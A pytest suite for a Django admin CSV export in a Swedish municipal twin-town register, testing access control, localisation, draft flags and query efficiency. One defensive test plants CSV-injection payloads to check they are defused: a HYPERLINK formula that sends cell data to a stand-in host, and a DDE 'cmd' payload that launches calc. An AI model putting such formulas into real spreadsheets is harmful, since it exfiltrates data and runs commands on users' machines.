"""The admin's export: "Export selected as CSV" on every register list, from the outside
(the changelist's action POST). It writes only what the user may see, drafts included,
in columns a registrar reads in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.contrib.auth.models import User
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from register.models import (
    Activity,
    ActivityKind,
    ActivityParticipants,
    Agreement,
    AgreementKind,
    DecidingBody,
    Decision,
    FocusArea,
    Funding,
    GovernanceRule,
    Organisation,
    Place,
    PlaceName,
    Relation,
    Source,
)

MODELS = ["relation", "agreement", "decision", "activity", "source", "place", "organisation"]
MODEL = {
    "relation": Relation,
    "agreement": Agreement,
    "decision": Decision,
    "activity": Activity,
    "source": Source,
    "place": Place,
    "organisation": Organisation,
}
SATURDAY_NOON = datetime(2026, 11, 28, 12, 0, tzinfo=ZoneInfo("Europe/Stockholm"))


def changelist(model: str) -> str:
    return reverse(f"admin:register_{model}_changelist")


def export(client, model: str, ids, *, select_across: bool = False):
    """Post the changelist's action form as the browser does."""
    data = {
        "action": "export_selected_as_csv",
        "index": "0",
        "_selected_action": [str(pk) for pk in ids],
    }
    if select_across:
        data["select_across"] = "1"
    return client.post(changelist(model), data)


def read_csv(response) -> tuple[list[str], list[dict[str, str]]]:
    """The header and rows of an exported file, read as a spreadsheet would."""
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # the BOM: Excel reads the file as UTF-8
    assert "\r\n" in text
    lines = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    header, rows = lines[0], lines[1:]
    assert len(set(header)) == len(header), header
    assert all(len(row) == len(header) for row in rows)
    assert not [cell for row in rows for cell in row if "<bound" in cell or " at 0x" in cell]
    return header, [dict(zip(header, row, strict=True)) for row in rows]


@pytest.fixture
def drafts(demo):
    """Halmstad keeps some of its register as drafts, and records a decision."""
    stord = Relation.objects.get(organisation=demo, partner__name="Stord")
    stord.is_published = False
    stord.save()
    moshi = Relation.objects.get(organisation=demo, partner__name="Moshi")
    decision = Decision.objects.create(
        relation=moshi, body=DecidingBody.EXECUTIVE_BOARD, date="2008-03", reference="KS 2008/12"
    )
    agreement = Agreement.objects.get(relation=moshi)
    agreement.decision = decision
    agreement.is_published = False
    agreement.save()
    return {"stord": stord, "moshi": agreement, "decision": decision}


@pytest.fixture
def superuser(db):
    return User.objects.create_superuser("root", "root@example.org", "a-long-Passw0rd-x")


def halmstads(model: str, demo):
    queryset = MODEL[model].objects.all()
    if model == "place":
        return queryset
    lookup = {
        "relation": "organisation",
        "activity": "organisation",
        "source": "organisation",
        "organisation": "pk",
    }.get(model, "relation__organisation")
    return queryset.filter(**{lookup: demo.pk})


def test_it_offers_the_action_on_the_list_in_the_users_language(client, alice):
    client.force_login(alice)
    page = client.get(changelist("relation")).content.decode()
    assert 'value="export_selected_as_csv"' in page
    assert "Exportera markerade som CSV" in page


@time_machine.travel(SATURDAY_NOON)
def test_it_exports_all_of_halmstads_relations_with_drafts_to_its_editor(
    client, alice, bob, drafts
):
    client.force_login(alice)
    first = Relation.objects.filter(organisation__slug="halmstad").first()
    response = export(client, "relation", [first.pk], select_across=True)  # "select all 5"
    assert response["Content-Disposition"] == (
        'attachment; filename="halmstad-relations-2026-11-28.csv"'
    )
    header, rows = read_csv(response)
    assert header[:9] == [
        "ID",
        "Organisation",
        "Samarbetspartner",
        "Samarbetspartnerns land",
        "Namn på andra språk",
        "Sedan (EDTF)",
        "Sedan, så som det publiceras",
        "Avtal",
        "Avsnitt på sidan",
    ]
    by_partner = {row["Samarbetspartner"]: row for row in rows}
    assert set(by_partner) == {"Asti", "Moshi", "Gentofte", "Hangö", "Stord"}  # no Sonderborg
    gentofte = by_partner["Gentofte"]
    assert gentofte["Sedan (EDTF)"] == "194X"
    assert gentofte["Sedan, så som det publiceras"] == "sedan 1940-talet"
    assert gentofte["Samarbetspartnerns land"] == "Danmark"
    assert gentofte["Avtal"] == "samarbetsavtal sedan 1940-talet"
    assert gentofte["Organisation"] == "Halmstads kommun"
    assert by_partner["Hangö"]["Namn på andra språk"] == "fi: Hanko; sv: Hangö"
    assert by_partner["Asti"]["Sedan, så som det publiceras"] == "sedan 2009 eller tidigare"
    assert by_partner["Asti"]["Källor"] == "Vänorter och samarbetsstäder – Halmstads kommun"
    assert by_partner["Stord"]["Publicerad"] == "nej"  # the draft is there, marked
    assert by_partner["Gentofte"]["Publicerad"] == "ja"


def test_it_writes_agreements_with_their_period_funding_and_draft_flag(client, alice, drafts):
    client.force_login(alice)
    ids = Agreement.objects.filter(relation__organisation__slug="halmstad").values("pk")
    _header, rows = read_csv(export(client, "agreement", [row["pk"] for row in ids]))
    assert len(rows) == 5
    moshi = next(row for row in rows if row["Typ"] == "kommunalt partnerskap")
    assert moshi["Förbindelse"] == "Halmstad–Moshi"
    assert moshi["Start (EDTF)"] == "2008"
    assert moshi["Giltighetstid i månader"] == "48"
    assert moshi["Period, så som den publiceras"] == "2008–2012"
    assert moshi["Samarbetsområden"] == "utbildning; demokrati"
    assert moshi["Finansiering"] == "Sida, 100 %"
    assert moshi["Ansvarig enhet"] == "Kattegattgymnasiet"
    assert moshi["Beslut"] == "kommunstyrelsen, KS 2008/12, mars 2008"
    assert moshi["Publicerad"] == "nej"
    _header, [decision] = read_csv(export(client, "decision", [drafts["decision"].pk]))
    assert decision["Beslutande organ"] == "kommunstyrelsen"
    assert decision["Datum, så som det publiceras"] == "mars 2008"
    assert decision["Diarienummer"] == "KS 2008/12"
    letter = next(row for row in rows if row["Typ"] == "avsiktsförklaring")
    assert letter["Period, så som den publiceras"] == "2009"


def test_it_writes_approximate_counts_with_their_flag(client, alice):
    client.force_login(alice)
    meeting = Activity.objects.get(organisation__slug="halmstad", date="2010-10")
    ActivityParticipants.objects.create(activity=meeting, country="IT", count=40, approximate=True)
    _header, [row] = read_csv(export(client, "activity", [meeting.pk]))
    assert row["Deltagare"] == "100"
    assert row["Antalet deltagare är ungefärligt"] == "ja"
    assert row["Deltagare, så som det publiceras"] == "ett 100-tal"
    assert row["Unga deltagare, så som det publiceras"] == "cirka 80"
    assert row["Datum (EDTF)"] == "2010-10"
    assert row["Datum, så som det publiceras"] == "oktober 2010"
    assert row["Samarbetspartner"] == "Asti"
    assert set(row["Teman"].split("; ")) == {
        "hållbar utveckling",
        "stadsplanering",
        "kultur",
        "demokrati",
    }
    assert row["Deltagare per ursprungsland"] == "IT: cirka 40"


def test_it_writes_headers_and_published_wording_in_english_when_the_editor_picks_it(client, alice):
    client.force_login(alice)
    client.post(reverse("set_language"), {"language": "en", "next": changelist("relation")})
    hanko = Relation.objects.get(partner__name="Hanko")
    header, [row] = read_csv(export(client, "relation", [hanko.pk]))
    assert "Since, as published" in header
    assert row["Partner"] == "Hanko"
    assert row["Since, as published"] == "since the 1940s"
    assert row["Partner's country"] == "Finland"
    assert row["Published"] == "yes"


@pytest.mark.parametrize("model", [m for m in MODELS if m != "place"])
def test_it_exports_nothing_of_halmstads_to_the_other_municipalitys_editor(
    client, bob, drafts, model
):
    """bob posts Halmstad's ids (as a forged form would): none of them is written, and
    the answer says nothing about them; his own records he does get."""
    client.force_login(bob)
    ids = list(halmstads(model, drafts["stord"].organisation).values_list("pk", flat=True))
    assert ids
    response = export(client, model, ids)
    _header, rows = read_csv(response)
    assert rows == []
    text = response.content.decode()
    assert "Halmstad" not in text and "Asti" not in text
    _header, everything = read_csv(export(client, model, ids[:1], select_across=True))
    assert all("Halmstad" not in "".join(row.values()) for row in everything)


def test_it_gives_the_other_editor_their_own_drafts(client, bob, other_municipality):
    client.force_login(bob)
    own = other_municipality.relations.get()
    response = export(client, "relation", [own.pk])
    assert "varberg-relations-" in response["Content-Disposition"]
    _header, [row] = read_csv(response)
    assert row["Samarbetspartner"] == "Sonderborg" and row["Publicerad"] == "nej"


@pytest.mark.parametrize("model", MODELS)
def test_it_refuses_the_export_to_a_user_without_organisation(
    client, charlie, drafts, other_municipality, model
):
    client.force_login(charlie)
    ids = MODEL[model].objects.values_list("pk", flat=True)
    response = export(client, model, ids, select_across=True)
    assert response.status_code == 403
    assert b"Halmstad" not in response.content


@time_machine.travel(SATURDAY_NOON)
def test_it_exports_every_organisations_records_to_the_superuser(
    client, superuser, drafts, other_municipality
):
    client.force_login(superuser)
    response = export(client, "relation", [drafts["stord"].pk], select_across=True)
    assert response["Content-Disposition"] == (
        'attachment; filename="vanort-relations-2026-11-28.csv"'  # two organisations
    )
    _header, rows = read_csv(response)
    assert {row["Samarbetspartner"] for row in rows} == {
        "Asti",
        "Moshi",
        "Gentofte",
        "Hangö",
        "Stord",
        "Sonderborg",
    }
    assert {row["Organisation"] for row in rows} == {"Halmstads kommun", "Varbergs kommun"}


@pytest.mark.parametrize("model", MODELS)
def test_it_exports_every_register_model_to_its_editor(client, alice, drafts, model):
    client.force_login(alice)
    ids = list(halmstads(model, drafts["stord"].organisation).values_list("pk", flat=True))
    _header, rows = read_csv(export(client, model, ids))
    assert sorted(int(row["ID"]) for row in rows) == sorted(ids)


def test_it_exports_places_and_organisations_with_numbers_and_rules(client, alice, demo):
    client.force_login(alice)
    moshi = Place.objects.get(name="Moshi")
    _header, [place] = read_csv(export(client, "place", [moshi.pk]))
    assert place["Latitud"] == "-3,334900"  # a negative number stays a number
    assert place["Landets namn"] == "Tanzania"
    _header, [org] = read_csv(export(client, "organisation", [demo.pk]))
    assert org["Beslutsregler"] == (
        "kommunfullmäktige: vänortsavtal; kommunstyrelsen: samarbetsavtal; "
        "kommunstyrelsen: kommunalt partnerskap"
    )
    assert org["Öppettider för besökare"] == "Mo-Th 08:00-17:00; Fr 08:00-16:00; PH off"


def test_it_defuses_cells_a_spreadsheet_would_run_as_formulas(client, alice, demo):
    """OWASP CSV injection: text starting with = + - @ (or a tab or carriage return)
    gets a leading apostrophe, so a spreadsheet shows it instead of running it."""
    relation = Relation.objects.get(partner__name="Gentofte")
    relation.section = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
    relation.description_sv = "+46 35 13 70 00"
    relation.description_en = "-1+2"
    relation.save()
    Source.objects.create(organisation=demo, title="@SUM(1+1)*cmd|' /C calc'!A0", document="\tx")
    client.force_login(alice)
    _header, [row] = read_csv(export(client, "relation", [relation.pk]))
    assert row["Avsnitt på sidan"] == '\'=HYPERLINK("http://evil.example/?"&A1,"klicka")'
    assert row["Beskrivning (svenska)"] == "'+46 35 13 70 00"
    assert row["Beskrivning (engelska)"] == "'-1+2"
    sources = Source.objects.filter(organisation=demo).values_list("pk", flat=True)
    _header, rows = read_csv(export(client, "source", sources))
    evil = next(row for row in rows if "SUM" in row["Titel"])
    assert evil["Titel"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert evil["Dokument"] == "'\tx"


# --- queries do not grow with the rows ----------------------------------------------------


def grow(organisation: Organisation, n: int, tag: str) -> dict[str, list[int]]:
    """n records of every model for `organisation`, each with its related rows."""
    kind = AgreementKind.objects.get(code="samarbetsavtal")
    activity_kind = ActivityKind.objects.first()
    area = FocusArea.objects.first()
    made: dict[str, list[int]] = {model: [] for model in MODELS}
    for i in range(n):
        partner = Place.objects.create(name=f"{tag} ort {i}", country="DE")
        PlaceName.objects.create(place=partner, language="sv", name=f"{tag} plats {i}")
        source = Source.objects.create(organisation=organisation, title=f"{tag} {i}", document="x")
        partner.sources.add(source)
        relation = Relation.objects.create(
            organisation=organisation, partner=partner, since="199X", is_published=i % 2 == 0
        )
        relation.sources.add(source)
        decision = Decision.objects.create(
            relation=relation, body=DecidingBody.COUNCIL, date="1995"
        )
        decision.sources.add(source)
        agreement = Agreement.objects.create(
            relation=relation, kind=kind, start="1995", term_months=48, decision=decision
        )
        agreement.focus_areas.add(area)
        agreement.sources.add(source)
        Funding.objects.create(agreement=agreement, funder="Sida", share_percent=50)
        activity = Activity.objects.create(
            organisation=organisation, kind=activity_kind, date="2020-05", participants=10
        )
        activity.relations.add(relation)
        activity.themes.add(area)
        activity.sources.add(source)
        ActivityParticipants.objects.create(activity=activity, country="DE", count=5)
        home = Place.objects.create(name=f"{tag} kommun {i}", country="SE")
        PlaceName.objects.create(place=home, language="en", name=f"{tag} town {i}")
        other = Organisation.objects.create(slug=f"{tag}-{i}", place=home, name_sv=f"{tag} {i}")
        GovernanceRule.objects.create(organisation=other, kind=kind, body=DecidingBody.COUNCIL)
        other.sources.add(source)
        for model, record in (
            ("relation", relation),
            ("agreement", agreement),
            ("decision", decision),
            ("activity", activity),
            ("source", source),
            ("place", partner),
            ("organisation", other),
        ):
            made[model].append(record.pk)
    return made


def queries_to_export(client, model: str, ids: list[int]) -> int:
    with CaptureQueriesContext(connection) as queries:
        _header, rows = read_csv(export(client, model, ids))
    assert len(rows) == len(ids)
    return len(queries)


def test_it_reads_the_same_number_of_queries_for_5_and_50_rows(client, superuser, demo):
    client.force_login(superuser)
    few = grow(demo, 5, "few")
    many = grow(demo, 50, "many")
    counts = {
        model: (
            queries_to_export(client, model, few[model]),
            queries_to_export(client, model, many[model]),
        )
        for model in MODELS
    }
    assert all(small == large for small, large in counts.values()), counts


def test_it_exports_all_n_of_a_filtered_list(client, alice, drafts):
    """Django's "select all N" applies to the filtered list, not to the whole table."""
    client.force_login(alice)
    drafts_only = changelist("relation") + "?is_published__exact=0"
    response = client.post(
        drafts_only,
        {
            "action": "export_selected_as_csv",
            "index": "0",
            "select_across": "1",
            "_selected_action": [str(drafts["stord"].pk)],
        },
    )
    _header, rows = read_csv(response)
    assert [row["Samarbetspartner"] for row in rows] == ["Stord"]


def test_it_names_a_stored_date_it_cannot_read_instead_of_failing(client, alice, drafts):
    """A value stored around the rules (an old import, a database edit) does not make
    the whole file fail; its cells say what is wrong."""
    Decision.objects.filter(pk=drafts["decision"].pk).update(date="2008-13-45")
    client.force_login(alice)
    _header, [row] = read_csv(export(client, "agreement", [drafts["moshi"].pk]))
    assert row["Beslut"] == "(inte ett giltigt datum)"
    assert row["Period, så som den publiceras"] == "2008–2012"
    _header, [row] = read_csv(export(client, "decision", [drafts["decision"].pk]))
    assert row["Datum (EDTF)"] == "2008-13-45"
    assert row["Datum, så som det publiceras"] == "(inte ett giltigt datum)"
